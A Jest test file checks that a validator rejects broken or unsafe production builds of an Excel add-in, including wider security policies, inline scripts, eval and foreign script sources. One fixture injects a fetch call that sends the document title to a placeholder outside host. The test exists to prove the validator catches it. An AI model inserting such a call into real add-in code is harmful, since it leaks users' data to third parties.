import fs from 'node:fs';
import path from 'node:path';
import { checkDist } from '../../scripts/validate/dist';
import { readFiles, type Files } from '../../scripts/validate/files';
import { builtAddIn } from '../../scripts/built-addin';

const ROOT = path.join(__dirname, '..', '..');
const MANIFEST = fs.readFileSync(path.join(ROOT, 'manifest.xml'), 'utf8');

let dist: Files;
beforeAll(async () => {
  dist = readFiles(await builtAddIn());
}, 300_000);

describe('the production build', () => {
  it('is in order; only its placeholder address is remarked on', () => {
    expect(checkDist(dist, MANIFEST).map((f) => `${f.severity}: ${f.where} ${f.what}`)).toEqual([
      'warning: dist/manifest.xml is made for https://iplos.example/, which answers nobody',
    ]);
  });

  it('that is not there is said to be missing, with the command that makes it', () => {
    expect(checkDist(new Map(), MANIFEST).map((f) => f.mend)).toEqual([
      expect.stringContaining('npm run build'),
    ]);
  });

  /**
   * How to break a build: the file, what happens to its text (undefined removes the file), what the check must say. A script is replaced
   * by the offence alone: to parse megabytes anew for each would take a second.
   */
  const MUTATIONS: readonly [string, string, (text: string) => string | undefined, RegExp][] = [
    [
      'a network call in the bundle',
      'taskpane.js',
      () => 'fetch("https://elsewhere.example/?"+document.title)',
      /uses fetch/,
    ],
    ['eval in the bundle', 'functions.js', () => 'eval("1")', /uses eval/],
    [
      'an address of the dev server',
      'commands.js',
      () => '"https://localhost:3000/"',
      /still names localhost/,
    ],
    [
      'a stale manifest',
      'manifest.xml',
      (t) => t.replace('Oppdater alle', 'Oppdater'),
      /not made from the manifest.xml/,
    ],
    [
      'a manifest without a page',
      'manifest.xml',
      (t) => t.replace(/taskpane\.html/g, 'pane.htm'),
      /names no page/,
    ],
    ['a missing script', 'functions.js', () => undefined, /names functions.js, which was not built/],
    [
      'a missing picture',
      'assets/compute-80.png',
      () => undefined,
      /names assets\/compute-80.png|compute-80.png is not there/,
    ],
    ['missing metadata', 'functions-en-us.json', () => undefined, /is missing or not functions metadata/],
    [
      'metadata that is not JSON',
      'functions.json',
      (t) => t.slice(1),
      /is missing or not functions metadata/,
    ],
    [
      'metadata that refuse error cells',
      'functions.json',
      (t) => t.replace('"allowCustomDataForDataTypeAny": true', '"allowCustomDataForDataTypeAny": false'),
      /does not allow error cells/,
    ],
    [
      'metadata that crash Excel LTSC 2021',
      'functions.json',
      (t) =>
        t.replace(
          '"allowCustomDataForDataTypeAny": true',
          '"allowCustomDataForDataTypeAny": true, "allowErrorForDataTypeAny": true',
        ),
      /crash Excel LTSC 2021/,
    ],
    [
      'a help address elsewhere',
      'functions.json',
      (t) => t.replace('/help.html#', '/hjelp.html#'),
      /its help address is/,
    ],
    [
      'a help page without the function',
      'help.html',
      (t) => t.replace(/\bid=/g, 'data-id='),
      /the help page has no section/,
    ],
    [
      'a function renamed in one language',
      'functions-en-us.json',
      (t) => t.replace(/"name": "INDICATORS"/, '"name": "INDICATOR"'),
      /does not describe the same functions/,
    ],
    [
      'a function that no code answers to',
      'functions.js',
      (t) => t.replace('.associate("INDICATORS"', '.associated("INDICATORS"'),
      /INDICATORS is associated with no code/,
    ],
    [
      'code that no metadata describe',
      'functions.js',
      () => 'CustomFunctions.associate("GHOST",x)',
      /does not describe GHOST/,
    ],
    [
      'no policy',
      'taskpane.html',
      (t) => t.replace('Content-Security-Policy', 'X-Policy'),
      /has no content security policy/,
    ],
    [
      'a wider policy',
      'taskpane.html',
      (t) => t.replace("connect-src 'none'", 'connect-src *'),
      /another policy than/,
    ],
    [
      'office.js from elsewhere',
      'taskpane.html',
      (t) => t.replace('appsforoffice.microsoft.com/lib', 'elsewhere.example/lib'),
      /its first script is/,
    ],
    [
      'office.js loaded late',
      'taskpane.html',
      (t) => t.replace('<script src=', '<script defer src='),
      /neither deferred nor async/,
    ],
    [
      'an inline script',
      'taskpane.html',
      (t) => t.replace('</body>', '<script>1</script></body>'),
      /has an inline script/,
    ],
    [
      'an inline handler',
      'taskpane.html',
      (t) => t.replace('<body', '<body onload="1"'),
      /has onload attributes/,
    ],
    [
      'scripts in another order',
      'taskpane.html',
      (t) => t.replace(/functions\.js/, 'other.js'),
      /must load functions.js, taskpane.js, commands.js/,
    ],
    [
      'something loaded before the policy',
      'taskpane.html',
      (t) => t.replace('<head>', '<head><link rel=icon href=x.png>'),
      /loads something before its policy/,
    ],
  ];

  it.each(MUTATIONS)('with %s is refused', (_, file, change, says) => {
    const text = dist.get(file)?.toString('utf8') ?? '';
    const changed = change(text);
    expect(changed).not.toBe(text);
    const broken = new Map(dist);
    if (changed === undefined) broken.delete(file);
    else broken.set(file, Buffer.from(changed));
    expect(checkDist(broken, MANIFEST).map((f) => `${f.where} ${f.what} ${f.mend}`)).toContainEqual(
      expect.stringMatching(says),
    );
  });

  it.each<[string, object, RegExp]>([
    [
      'streams and can be cancelled',
      { options: { stream: true, cancelable: true } },
      /is both stream and cancelable/,
    ],
    [
      'asks for a stream address without streaming',
      { options: { requiresStreamAddress: true } },
      /has requiresStreamAddress without stream/,
    ],
    [
      'has a required parameter after an optional one',
      {
        parameters: [
          { name: 'a', description: 'a', optional: true },
          { name: 'b', description: 'b' },
        ],
      },
      /required parameter after an optional/,
    ],
    ['has a parameter without description', { parameters: [{ name: 'a' }] }, /"a" has no description/],
    ['has no result', { result: undefined }, /has no result/],
  ])('with a function that %s is refused', (_, change, says) => {
    const broken = new Map(dist);
    const metadata = JSON.parse(dist.get('functions.json')?.toString('utf8') ?? '') as {
      functions: object[];
    };
    broken.set(
      'functions.json',
      Buffer.from(
        JSON.stringify({ ...metadata, functions: metadata.functions.map((f) => ({ ...f, ...change })) }),
      ),
    );
    expect(checkDist(broken, MANIFEST).map((f) => f.what)).toContainEqual(expect.stringMatching(says));
  });
});
